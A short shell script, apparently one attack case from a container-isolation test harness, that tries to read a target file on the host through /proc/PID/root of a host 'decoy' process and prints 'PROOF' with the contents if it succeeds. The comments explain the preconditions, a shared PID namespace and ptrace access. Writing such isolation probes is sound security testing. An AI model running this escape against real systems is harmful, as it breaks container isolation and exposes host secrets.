# Attack: a host process's root directory is a door into the host's filesystem.
# /proc/PID/root resolves paths in PID's mount namespace, not ours.
echo "decoy: host pid $MC_DECOY_PID"
door="/proc/$MC_DECOY_PID/root"
# Is the host process in our /proc at all? (Not with a pid namespace of our own.)
if [ ! -e "/proc/$MC_DECOY_PID" ]; then
    echo "/proc/$MC_DECOY_PID: no such process in this pid namespace"
fi
# Following the link needs ptrace read access to the process: same user and
# every capability it has, or CAP_SYS_PTRACE.
ls -ld "$door" 2>&1
if secret=$(cat "$door$MC_TARGET" 2>&1); then
    echo "read $door$MC_TARGET"
    echo "PROOF $secret"
else
    echo "cat $door$MC_TARGET: $secret"
fi
